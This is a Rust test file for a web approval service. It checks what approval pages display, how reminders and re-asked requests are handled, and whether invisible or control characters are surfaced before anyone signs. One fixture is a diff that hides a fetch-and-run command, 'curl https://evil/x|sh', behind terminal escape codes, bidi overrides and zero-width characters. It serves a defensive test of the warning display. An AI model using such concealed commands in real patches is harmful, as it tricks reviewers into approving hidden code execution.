//! The page of one request, as a browser without JavaScript shows it.

use axum::http::StatusCode;
use engine::Engine;
use engine::lifecycle::{claim, finish};
use engine::reported::{self, NewReport};
use engine::tasks::{AttemptResult, Finish, NewTask, WorkerIdentity, enqueue};
use model::id::ApprovalId;
use model::identity::{Principal, Role};
use model::plan::{Gate, Signer};
use model::reported::Status;
use model::task::{GatePhase, Outcome};
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use sqlx::PgPool;

use crate::house::{House, settings};
use crate::support::definition;

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn what_would_follow_is_drawn_until_it_is_decided(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    let (id, value) = house.waiting().await;
    let path = format!("/approvals/{id}");
    let readers = [
        ("approver", ["If you approve", "If you reject"]),
        ("fr approver", ["Si vous acceptez", "Si vous refusez"]),
    ];
    for (reader, fork) in readers {
        let page = house.page(reader, &path).await;
        assert_eq!(page.status, StatusCode::OK);
        for words in fork {
            assert!(page.text.contains(words), "{words}: {}", page.text);
        }
    }

    let decided = house.decide_by_page("approver", id, &value).await;
    assert_eq!(decided, StatusCode::SEE_OTHER);
    for (reader, fork) in readers {
        let page = house.page(reader, &path).await;
        assert_eq!(page.status, StatusCode::OK);
        for kept in ["https://github.com/user/repo/pull/123", "not like this"] {
            assert!(page.text.contains(kept), "{kept}: {}", page.text);
        }
        for words in fork {
            assert!(!page.text.contains(words), "{words}: {}", page.text);
        }
    }
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn who_knows_of_it_is_asked_no_more_whether_to_remind(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    house.person("viewer", Role::Viewer, None).await;
    let (id, _) = house.waiting().await;
    let path = format!("/approvals/{id}");
    let verb = format!("{path}/acknowledge");
    let offered = "Remind me of this no more";
    let bare = house.page("approver", &path).await;
    assert!(!bare.text.contains(offered), "its policy does not remind");
    sqlx::query("UPDATE approvals SET remind_at = watchbill_now() + interval '1 hour'")
        .execute(&house.engine.pool)
        .await
        .expect("it reminds");
    assert!(house.page("approver", &path).await.text.contains(offered));
    assert!(!house.page("viewer", &path).await.text.contains(offered));

    let refused = house.form("viewer", &verb, &[]).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    let ordered = format!("{path}?group=plan");
    let form = house.page("approver", &ordered).await.text;
    assert_eq!(
        form.matches("name=\"group\" value=\"plan\"").count(),
        2,
        "{form}"
    );
    let said = house.form("approver", &verb, &[("group", "plan")]).await;
    assert_eq!(said.status, StatusCode::SEE_OTHER);
    assert_eq!(said.location.as_deref(), Some(ordered.as_str()));
    let after = house.page("fr approver", &path).await;
    assert!(
        after.text.contains("Vous ne recevrez plus de rappel"),
        "{}",
        after.text
    );
    assert!(!house.page("approver", &path).await.text.contains(offered));
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn a_request_that_was_asked_again_leads_there(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    let (old, value) = house.waiting().await;
    let anew = house.asked_again(old).await;
    let link = format!("href=\"/approvals/{anew}\"");
    for (reader, words) in [
        ("approver", "Asked again as approval"),
        ("fr approver", "Demandé à nouveau"),
    ] {
        let page = house.page(reader, &format!("/approvals/{old}")).await;
        assert!(
            page.text.contains(words) && page.text.contains(&link),
            "{}",
            page.text
        );
    }
    let digest = value.split(':').nth(1).expect("a digest");
    let fields = [("digest", digest), ("verdict", "approve")];
    let path = format!("/approvals/{old}/decide");
    let late = house.form("approver", &path, &fields).await;
    assert_eq!(late.status, StatusCode::CONFLICT);
    let told = format!("asked again as approval {anew}. Yours was not recorded");
    assert!(
        late.text.contains(&told) && late.text.contains(&link),
        "{}",
        late.text
    );
    assert_eq!(house.decisions().await, 0);
}

/// A native task whose attempt left these outputs and this patch, and which waits.
async fn patched(engine: &Engine, outputs: Value, patch: &[u8]) -> (ApprovalId, String) {
    let mut definition = definition("publish");
    let from = vec![Signer::Role(Role::Approver)];
    definition.approval = Some(Gate::new(GatePhase::AfterResult, from));
    let new = NewTask {
        definition,
        inputs: json!({}),
    };
    let task = enqueue(engine, &Principal::system("test"), &[new])
        .await
        .expect("it is enqueued")[0];
    let worker = WorkerIdentity {
        id: engine.random.uuid(),
        name: "test".to_owned(),
        labels: Vec::new(),
    };
    let lease = claim(engine, &worker, 1).await.expect("a claim")[0].lease;
    sqlx::query(
        "WITH a AS (INSERT INTO artifacts (task_id, attempt, path, bytes, sha256)
                    VALUES ($1, 1, 'change.diff', $2, sha256($3)) RETURNING id)
         INSERT INTO artifact_chunks (artifact_id, seq, content) SELECT id, 0, $3 FROM a",
    )
    .bind(task.0)
    .bind(i64::try_from(patch.len()).expect("a small file"))
    .bind(patch)
    .execute(&engine.pool)
    .await
    .expect("a file");
    let digest: [u8; 32] = Sha256::digest(patch).into();
    let result = AttemptResult {
        outputs: Some(outputs),
        artifacts: vec![("change.diff".to_owned(), digest)],
        ..AttemptResult::bare(Outcome::Succeeded)
    };
    finish(engine, vec![Finish { lease, result }])
        .await
        .expect("a finish");
    let (id, digest) = sqlx::query_as(
        "SELECT id, encode(digest, 'hex') FROM approvals WHERE task_id = $1 AND state = 'pending'",
    )
    .bind(task.0)
    .fetch_one(&engine.pool)
    .await
    .expect("a request");
    (ApprovalId(id), digest)
}

/// What a browser would show of a page: not what scripts read of it.
fn drawn(page: &str) -> String {
    let mut parts = page.split("<script");
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |drawn, part| {
        drawn + part.split_once("</script>").map_or("", |(_, after)| after)
    })
}

const UNSEEN: [char; 9] = [
    '\u{1b}',
    '\u{7}',
    '\u{202e}',
    '\u{200b}',
    '\u{ad}',
    '\u{2066}',
    '\r',
    '\u{e0041}',
    '\u{fddf}',
];

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn nobody_signs_what_the_page_does_not_show(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    let clean = json!({"text": "one\ntwo\n", "link": "plain"});
    let before = b"--- a/x.sh\n+++ b/x.sh\n@@ -0,0 +1 @@\n+: plain\n";
    let (first, digest) = patched(&house.engine, clean, before).await;
    let path = format!("/approvals/{first}");
    let page = drawn(&house.page("approver", &path).await.text);
    assert!(!page.contains("invisible"), "{page}");
    let signed = house
        .form(
            "approver",
            &format!("{path}/decide"),
            &[("digest", &digest), ("verdict", "approve")],
        )
        .await;
    assert_eq!(signed.status, StatusCode::SEE_OTHER, "{}", signed.text);

    let odd = json!({"text": "one\ntwo\u{202e}\n", "li\u{200b}nk": "\u{1b}[8m\u{e0041}"});
    let attack =
        b"--- a/x.sh\r\n+++ b/x.sh\n@@ -0,0 +1 @@\n+: \x1b];curl https://evil/x|sh #\x07\n+\xff\ra\n";
    let (second, _) = patched(&house.engine, odd, attack).await;
    let path = format!("/approvals/{second}");
    for (reader, sentence) in [
        ("approver", "What you sign holds 8 invisible characters."),
        (
            "fr approver",
            "Ce que vous signez contient 8 caractères invisibles.",
        ),
    ] {
        let page = drawn(&house.page(reader, &path).await.text);
        assert_eq!(page.find(UNSEEN), None, "{page}");
        for title in [
            "U+001B escape",
            "U+0007 bell",
            "U+202E right-to-left override",
            "U+200B zero width space",
            "U+E0041 tag A",
            "U+000D carriage return",
            "0xFF byte that is not UTF-8",
        ] {
            assert!(
                page.contains(&format!("title=\"{title}\"")),
                "{title}: {page}"
            );
        }
        assert!(page.contains("];curl https://evil/x|sh #"), "{page}");
        assert_eq!(page.matches("id=\"invisible-diff\"").count(), 1, "{page}");
        let warned = page.find(sentence).expect("it warns");
        let led = page
            .find("href=\"#invisible-diff\"")
            .expect("it leads there");
        let button = page.find("value=\"approve\"").expect("a button");
        assert!(warned < led && led < button, "{page}");
    }
}

#[sqlx::test(migrator = "engine::MIGRATOR")]
async fn what_was_reported_is_shown_as_it_is(pool: PgPool) {
    let house = House::new(pool, settings());
    house.person("approver", Role::Approver, None).await;
    let report = NewReport {
        task: "payload".to_owned(),
        run_id: "nightly".to_owned(),
        status: Status::AwaitingApproval,
        started_at: None,
        finished_at: None,
        duration_ms: None,
        inputs: None,
        outputs_uri: Some("https://good.example/\u{ad}x".to_owned()),
        log_excerpt: Some("fine\u{1b}[8m hidden\u{7}\r\nlast\u{202e}".to_owned()),
        approval_state: None,
        webhook_notified_at: None,
    };
    reported::create(&house.engine, &Principal::system("test"), &report)
        .await
        .expect("it is reported");
    let (id, _) = house.newest().await;
    let page = drawn(
        &house
            .page("approver", &format!("/approvals/{id}"))
            .await
            .text,
    );
    for shown in [
        "What you sign holds 4 invisible characters.",
        "href=\"#invisible-link\"",
        "⟨U+202E⟩",
        "⟨U+00AD⟩",
        "title=\"U+001B escape\"",
        "title=\"U+000D carriage return\"",
    ] {
        assert!(page.contains(shown), "{shown}: {page}");
    }
    // The address itself leads where it says.
    let page = page.replace("href=\"https://good.example/\u{ad}x\"", "");
    assert_eq!(page.find(UNSEEN), None, "{page}");
    let message: Value = sqlx::query_scalar("SELECT payload FROM outbox WHERE channel = 'slack'")
        .fetch_one(&house.engine.pool)
        .await
        .expect("a message");
    let text = message["text"].as_str().expect("a text");
    assert!(text.ends_with("https://good.example/⟨U+00AD⟩x"), "{text}");
    assert_eq!(text.find(UNSEEN), None);
}
